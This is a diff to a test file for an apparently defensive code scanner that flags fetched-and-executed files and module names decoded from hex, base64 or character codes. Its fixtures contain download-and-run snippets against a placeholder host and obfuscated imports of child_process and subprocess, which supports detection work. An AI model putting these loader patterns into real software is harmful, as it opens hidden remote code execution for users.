@@ -97,6 +97,18 @@ describe('what is decoded or fetched and then run is held', () => {
       'review download-and-run',
     ],
     [
+      'a script that an interpreter is given',
+      'a.js',
+      "const fs = require('fs'), cp = require('child_process'); async function f(p) { fs.writeFileSync(p, await (await fetch('https://example.invalid/x')).text()); cp.spawn('node', [p]) }",
+      'review download-and-run',
+    ],
+    [
+      'a file that a function of its own fetches, and that is run',
+      'a.py',
+      "import urllib.request, subprocess, os\ndef fetch(url, part):\n  with urllib.request.urlopen(url) as response, open(part, 'wb') as out: out.write(response.read())\ndef go(target):\n  fetch('https://example.invalid/x', target)\n  subprocess.Popen([str(target), '--quiet'])",
+      'review download-and-run',
+    ],
+    [
       'the same in Python',
       'a.py',
       `import urllib.request, subprocess\ndef go(path):\n  urllib.request.urlretrieve('https://example.invalid/x', path)\n  subprocess.Popen([path])`,
@@ -104,6 +116,37 @@ describe('what is decoded or fetched and then run is held', () => {
     ],
   ])('%s', (_, file, text, verdict) => {
     expect(verdictsOf({ [file]: text })).toContain(verdict);
+  });
+});
+
+describe('a module whose name is decoded is held', () => {
+  it.each([
+    [
+      'in hexadecimal',
+      'a.js',
+      `const q = require; const n = (s) => Buffer.from(s, 'hex').toString(); q(n('2e2f64617461'))`,
+    ],
+    ['in base64', 'a.mjs', `const m = await import(atob('Y2hpbGRfcHJvY2Vzcw=='))`],
+    ['as numbers', 'a.js', `require(String.fromCharCode(102, 115))`],
+    ['in Python', 'a.py', `import base64\nm = __import__(base64.b64decode('c3VicHJvY2Vzcw==').decode())`],
+  ])('%s', (_, file, text) => {
+    expect(verdictsOf({ [file]: text })).toContain('hold hidden-import');
+  });
+
+  it.each([
+    [
+      'a module made of text',
+      'a.mjs',
+      "const m = await import('data:text/javascript;base64,' + Buffer.from(code).toString('base64'))",
+    ],
+    [
+      'a plugin by its name',
+      'a.js',
+      "const plugin = require(path.join(root, 'plugins', name)); require('./locale/' + language)",
+    ],
+    ['a list of names', 'a.js', "for (const name of ['react', 'vue']) require(name + '/package.json')"],
+  ])('but not %s', (_, file, text) => {
+    expect(verdictsOf({ [file]: text }).filter((one) => !one.startsWith('note'))).toEqual([]);
   });
 });
 
@@ -133,6 +176,21 @@ describe('honest code that looks like it is no more than a note', () => {
       'a request and a process that have nothing to do with each other',
       'a.js',
       "const cp = require('child_process'); fetch('https://example.invalid').then((r) => r.json()); exports.open = (file) => cp.spawn('xdg-open', [file])",
+    ],
+    [
+      'a fixed command with an address from an answer',
+      'a.js',
+      "const cp = require('child_process'); async function f() { const r = await fetch('https://example.invalid/c'); cp.exec('git clone ' + (await r.json()).url) }",
+    ],
+    [
+      'a fetched file given to a fixed tool',
+      'a.js',
+      "const fs = require('fs'), cp = require('child_process'); async function f(p) { fs.writeFileSync(p, await (await fetch('https://example.invalid/x')).text()); cp.spawn('tar', ['-xf', p]) }",
+    ],
+    [
+      'a browser opened on an address that was put together',
+      'a.py',
+      "import subprocess, urllib.parse\ndef open_url(url):\n  subprocess.Popen(['xdg-open', urllib.parse.unquote(url)])",
     ],
     [
       'curl without a shell behind it',
